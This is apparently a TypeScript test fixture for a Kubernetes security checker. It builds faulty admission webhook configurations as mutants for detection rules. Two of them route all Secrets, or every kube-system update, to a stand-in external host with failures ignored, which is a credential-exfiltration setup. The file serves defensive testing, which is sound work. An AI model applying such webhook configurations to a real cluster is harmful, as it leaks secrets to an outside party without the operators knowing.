/** Webhooks that stand between joining machines and the cluster. */
import type { KubeObject } from '../kubernetes/objects.js';
import { type Resource, resources } from '../kubernetes/resources.js';
import { finds } from './arrange.js';
import type { Mutant } from './types.js';

interface Hook {
  readonly group: string;
  readonly asked: string;
  readonly operations?: readonly string[];
  readonly url?: string;
  readonly fields?: object;
}

/** A webhook whose Service is not there, or that is reached by a URL. */
const hook = (name: string, { group, asked, operations = ['CREATE'], url, fields = {} }: Hook): object => ({
  name: `${name}.example.com`,
  admissionReviewVersions: ['v1'],
  sideEffects: 'None',
  clientConfig: url === undefined ? { service: { namespace: 'default', name: 'gone' } } : { url },
  rules: [{ apiGroups: [group], apiVersions: ['v1'], operations, resources: [asked] }],
  ...fields,
});

const configuration = ({ kind }: Resource, name: string, ...webhooks: readonly object[]): KubeObject => ({
  apiVersion: 'admissionregistration.k8s.io/v1',
  kind,
  metadata: { name },
  webhooks,
});

const { mutatingWebhookConfigurations: mutating, validatingWebhookConfigurations: validating } = resources;
const asks = (name: string, defect: string, rule: string, resource: Resource, given: Hook): Mutant =>
  finds(name, defect, [rule], ({ api }) => void api.create(resource, configuration(resource, name, hook(name, given))));

const CERTIFICATES = 'certificates.k8s.io';
const AWAY = 'https://hooks.example.com/tokens';

export const mutants: readonly Mutant[] = [
  asks('webhook-of-requests-gone', 'a webhook for requests has lost its Service', 'P-170', validating, {
    group: CERTIFICATES,
    asked: 'certificatesigningrequests',
  }),
  asks('webhook-of-approvals-gone', 'a webhook for all of certificates has lost its Service', 'P-170', mutating, {
    group: CERTIFICATES,
    asked: '*/*',
    operations: ['UPDATE'],
  }),
  asks('webhook-of-nodes-gone', 'a webhook for everything has lost its Service', 'P-170', mutating, {
    group: '*',
    asked: '*',
    operations: ['*'],
    // it picks namespaces, of which Nodes have none
    fields: { namespaceSelector: { matchLabels: { guarded: 'yes' } } },
  }),
  asks('webhook-of-node-status-gone', 'a webhook for the status of Nodes has lost its Service', 'P-170', validating, {
    group: '',
    asked: '*/status',
    operations: ['UPDATE'],
  }),
  asks('webhook-is-sent-tokens', 'a webhook beyond the cluster is sent all Secrets', 'P-171', validating, {
    group: '',
    asked: 'secrets',
    url: AWAY,
    fields: { failurePolicy: 'Ignore' },
  }),
  asks('webhook-is-sent-changed-tokens', 'one is sent what is changed in kube-system', 'P-171', mutating, {
    group: '*',
    asked: '*',
    operations: ['UPDATE'],
    url: 'https://192.0.2.7:8443/',
    fields: {
      failurePolicy: 'Ignore',
      namespaceSelector: {
        matchExpressions: [{ key: 'kubernetes.io/metadata.name', operator: 'In', values: ['kube-system'] }],
      },
    },
  }),
  {
    name: 'harmless-webhooks',
    defect: 'webhooks as operators install them',
    killedBy: [],
    arrange: ({ api }) => {
      const requests = { group: CERTIFICATES, asked: 'certificatesigningrequests' };
      const secrets = { group: '', asked: 'secrets', operations: ['*'] };
      const spared = {
        matchExpressions: [{ key: 'kubernetes.io/metadata.name', operator: 'NotIn', values: ['kube-system'] }],
      };
      api.create(
        validating,
        configuration(
          validating,
          'policies',
          hook('passes-over', { ...requests, fields: { failurePolicy: 'Ignore' } }),
          hook('conditions', { ...requests, fields: { matchConditions: [{ name: 'a', expression: 'false' }] } }),
          hook('labelled', { ...requests, fields: { objectSelector: { matchLabels: { a: 'b' } } } }),
          hook('marked', {
            ...requests,
            fields: { objectSelector: { matchExpressions: [{ key: 'a', operator: 'Exists' }] } },
          }),
          hook('own-namespaces', { ...secrets, url: AWAY, fields: { namespaceSelector: spared } }),
          hook('on-the-machine', { ...secrets, url: 'https://127.0.0.1:9443/x' }),
          hook('in-the-cluster', { ...secrets, url: 'https://policy.kyverno.svc:443/validate' }),
          hook('deletions', { ...secrets, operations: ['DELETE'], url: AWAY }),
          hook('pods', { group: '', asked: 'pods' }),
          hook('other-scope', {
            ...requests,
            fields: {
              rules: [
                {
                  apiGroups: ['*'],
                  apiVersions: ['*'],
                  operations: ['*'],
                  resources: ['*'],
                  scope: 'Namespaced',
                },
              ],
            },
          }),
        ),
      );
      const named = { service: { namespace: 'default', name: 'kubernetes' } };
      api.create(
        mutating,
        configuration(mutating, 'there', hook('there', { group: '*', asked: '*', fields: { clientConfig: named } })),
      );
    },
  },
];
